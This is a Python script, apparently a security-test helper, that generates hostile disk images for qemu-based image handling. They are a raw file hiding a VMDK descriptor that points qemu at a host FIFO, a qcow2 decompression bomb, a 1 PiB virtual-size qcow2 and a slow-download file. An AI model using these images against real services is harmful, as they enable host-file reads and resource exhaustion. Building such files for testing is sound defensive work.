"""Hostile image files for the attacks: `hostile.py DIR FIFO` writes them into DIR.

- fifo.raw: "raw" data whose VMDK descriptor hides behind a binary comment line, as qemu's
  probe still finds it, with an extent naming FIFO, a root-only FIFO on the host;
- bomb.qcow2: a compressed qcow2 of a few hundred KiB that expands to 40 MiB of data;
- huge.qcow2: an empty qcow2 of 1 PiB virtual size;
- slow.raw: 12 MiB of random data, to be killed while it downloads.
"""
import os
import subprocess
import sys

MIB = 1024 * 1024


def main(directory, fifo):
    descriptor = (b"#" + bytes(range(1, 32)) + b"\xff\xfe hidden behind a comment\n"
                  b"version=1\ncreateType=\"monolithicFlat\"\nRW 2048 FLAT \"%s\" 0\n"
                  % fifo.encode())
    with open(os.path.join(directory, "fifo.raw"), "wb") as image:
        image.write(descriptor.ljust(MIB, b"\0"))
    bomb_raw = os.path.join(directory, "bomb.raw")
    with open(bomb_raw, "wb") as image:
        image.write(b"precache" * (40 * MIB // 8))
    subprocess.run(["qemu-img", "convert", "-c", "-f", "raw", "-O", "qcow2", bomb_raw,
                    os.path.join(directory, "bomb.qcow2")], check=True)
    os.unlink(bomb_raw)
    subprocess.run(["qemu-img", "create", "-q", "-f", "qcow2",
                    os.path.join(directory, "huge.qcow2"), "1P"], check=True)
    with open(os.path.join(directory, "slow.raw"), "wb") as image:
        image.write(os.urandom(12 * MIB))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
